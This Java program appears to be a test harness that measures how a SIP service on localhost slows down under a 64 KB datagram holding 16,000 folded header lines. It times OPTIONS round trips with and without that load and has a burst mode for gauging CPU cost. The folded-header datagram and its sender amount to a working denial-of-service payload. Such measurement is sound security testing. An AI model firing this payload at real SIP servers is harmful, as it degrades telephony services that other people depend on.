import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/**
 * How long a 64 KB datagram of 16,000 folded header lines delays a concurrent OPTIONS, against any
 * SIP service on 127.0.0.1:PORT (java FoldedDelay.java PORT [ROUNDS]). Prints the OPTIONS round
 * trip alone and right behind the folded datagram (median, p90, max), in milliseconds. With "PORT N
 * burst" it only sends N folded datagrams, each followed by an OPTIONS whose answer it awaits (the
 * caller measures the service's CPU around that).
 */
public class FoldedDelay {
  public static void main(String[] a) throws Exception {
    int port = Integer.parseInt(a[0]);
    int rounds = a.length > 1 ? Integer.parseInt(a[1]) : 40;
    boolean burst = a.length > 2 && a[2].equals("burst"); // only send, each behind an OPTIONS
    StringBuilder sb =
        new StringBuilder(
            "OPTIONS sip:127.0.0.1:"
                + port
                + " SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5999;branch=z9hG4bK-fold\r\n"
                + "From: <sip:x@127.0.0.1>;tag=fold\r\nTo: <sip:127.0.0.1>\r\nCall-ID: fold\r\n"
                + "CSeq: 1 OPTIONS\r\nX-Fold: a");
    for (int i = 0; i < 16_000; i++) {
      sb.append("\r\n b");
    }
    byte[] folded =
        sb.append("\r\nContent-Length: 0\r\n\r\n").toString().getBytes(StandardCharsets.US_ASCII);
    try (DatagramSocket prober = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0));
        DatagramSocket attacker = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0))) {
      if (burst) { // for CPU per folded datagram: the caller reads the service's CPU around it
        for (int i = 0; i < rounds; i++) {
          rtt(prober, port, "burst-" + i, attacker, folded);
        }
        return;
      }
      for (int i = 0; i < 30; i++) {
        rtt(prober, port, "warm-" + i, attacker, folded);
      }
      long[] quiet = new long[rounds];
      long[] loaded = new long[rounds];
      for (int i = 0; i < rounds; i++) {
        quiet[i] = rtt(prober, port, "quiet-" + i, null, null);
        loaded[i] = rtt(prober, port, "loaded-" + i, attacker, folded);
      }
      Arrays.sort(quiet);
      Arrays.sort(loaded);
      System.out.printf(
          "folded=%d bytes; OPTIONS alone: median %.2f ms, p90 %.2f ms; behind the folded datagram:"
              + " median %.2f ms, p90 %.2f ms, max %.2f ms%n",
          folded.length,
          ms(quiet, 50),
          ms(quiet, 90),
          ms(loaded, 50),
          ms(loaded, 90),
          ms(loaded, 100));
    }
  }

  static double ms(long[] sorted, int pct) {
    return sorted[Math.min(sorted.length - 1, sorted.length * pct / 100)] / 1e6;
  }

  static long rtt(
      DatagramSocket prober, int port, String callId, DatagramSocket attacker, byte[] folded)
      throws Exception {
    String via = "127.0.0.1:" + prober.getLocalPort();
    String options =
        "OPTIONS sip:127.0.0.1:"
            + port
            + " SIP/2.0\r\nVia: SIP/2.0/UDP "
            + via
            + ";branch=z9hG4bK-"
            + callId
            + "\r\nFrom: <sip:p@127.0.0.1>;tag="
            + callId
            + "\r\nTo: <sip:127.0.0.1>\r\nCall-ID: "
            + callId
            + "\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n";
    InetAddress lo = InetAddress.getByName("127.0.0.1");
    if (attacker != null) {
      attacker.send(new DatagramPacket(folded, folded.length, lo, port));
    }
    long t0 = System.nanoTime();
    byte[] b = options.getBytes(StandardCharsets.US_ASCII);
    prober.send(new DatagramPacket(b, b.length, lo, port));
    byte[] buf = new byte[65535];
    prober.setSoTimeout(5000);
    while (true) {
      DatagramPacket p = new DatagramPacket(buf, buf.length);
      try {
        prober.receive(p);
      } catch (SocketTimeoutException e) {
        throw new IllegalStateException("no answer to " + callId);
      }
      if (new String(buf, 0, p.getLength(), StandardCharsets.US_ASCII)
          .contains("Call-ID: " + callId + "\r\n")) {
        return System.nanoTime() - t0;
      }
    }
  }
}
